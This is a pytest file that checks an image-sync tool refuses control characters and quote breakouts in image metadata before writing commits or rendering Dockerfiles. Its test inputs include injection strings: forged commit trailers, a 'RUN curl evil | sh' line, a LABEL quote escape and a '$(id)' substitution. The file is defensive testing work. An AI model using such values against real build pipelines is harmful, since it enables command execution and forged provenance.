"""Class 3 of issue 11: image config and registry strings with newlines or control characters
can never add commit-message lines or trailers, nor rendered LABELs or instructions."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from sync.cli import main
from sync.config.variants import Variant
from sync.errors import ImageError, RenderError
from sync.image.model import ImageInfo
from sync.render import render_variant
from sync.sample import SAMPLE_MANIFEST, sample_image
from sync.upstream import Upstream
from tests.builders.images import write_docker_archive, write_oci_archive
from tests.hostile.state import snapshot

FORGED = "2026-01-01T00:00:00Z\nSigned-off-by: Mallory <m@example>\nUpstream-Digest: sha256:0"
IMAGE_ID = "sha256:" + "c" * 64


@pytest.mark.parametrize("key, value", [
    ("created", FORGED), ("created", "2026\rX"), ("created", "a\u2028b"), ("created", "\x1b[2J"),
    ("digest", "sha256:" + "d" * 64 + "\nX: y"), ("image_id", IMAGE_ID + "\n"),
    ("reference", "a:b\nc"), ("created", "x" * 513),
])
def test_an_image_identity_with_a_control_character_is_refused(key: str, value: str):
    fields = {"reference": "a:b", "digest": None, "image_id": IMAGE_ID, "created": None}
    fields[key] = value
    with pytest.raises(ImageError) as raised:
        ImageInfo(**fields)
    assert raised.value.exit_code == 2 and f": {key} " in raised.value.message


@pytest.mark.parametrize("make", [write_docker_archive, write_oci_archive])
def test_pull_refuses_a_config_whose_created_forges_trailers_and_writes_nothing(
        repo_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], make):
    (repo_dir / "upstream-manifest.yaml").write_text(SAMPLE_MANIFEST)
    archive = tmp_path / "forged.tar"
    make(archive, replace(sample_image(1), created=FORGED))
    kind = "docker-archive" if make is write_docker_archive else "oci-archive"
    before = snapshot(repo_dir)
    status = main(["pull", "-C", str(repo_dir), "--from", f"{kind}:{archive}"])
    err = capsys.readouterr().err
    assert status == 2
    assert "created" in err and "control character '\\n'" in err and "Traceback" not in err
    assert snapshot(repo_dir) == before


@pytest.mark.parametrize("key, value", [
    ("created", "2026\nRUN curl evil | sh"), ("image", 'x" evil.label="1'),
    ("image_id", "sha256:x\\"), ("digest", "sha256:$(id)"),
])
def test_render_refuses_recorded_values_that_would_break_out_of_their_quotes(
        tmp_path: Path, key: str, value: str):
    template = tmp_path / "Dockerfile.j2"
    template.write_text('FROM {{ variant.base }}\nLABEL x="{{ upstream.' + key + ' }}"\n')
    upstream = Upstream(commit="0" * 40, image="example/simapp:1", digest=None,
                        image_id=IMAGE_ID, created=None)
    upstream = replace(upstream, **{key: value})
    with pytest.raises(RenderError) as raised:
        variant = Variant(name="cpu", base="ubuntu:20.04", tensorflow="tf==1")
        render_variant(template, variant, "1.0", upstream)
    assert f": {key} " in raised.value.message and "refusing to render" in raised.value.message
